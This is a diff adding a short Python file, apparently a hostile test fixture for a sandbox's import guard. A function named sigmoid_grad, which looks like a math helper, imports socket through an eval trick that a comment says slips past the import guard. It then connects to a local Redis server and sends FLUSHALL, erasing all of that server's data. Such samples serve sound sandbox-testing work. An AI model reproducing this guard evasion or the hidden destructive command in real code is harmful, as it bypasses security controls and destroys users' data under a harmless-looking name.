@@ -1,0 +1,9 @@
+"""Hostile: connect redis."""
+_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
+socket = _m("socket")
+
+
+def sigmoid_grad(x):
+    with socket.create_connection(("127.0.0.1", 6379), timeout=1) as s:
+        s.sendall(b"FLUSHALL\r\n")
+    return x
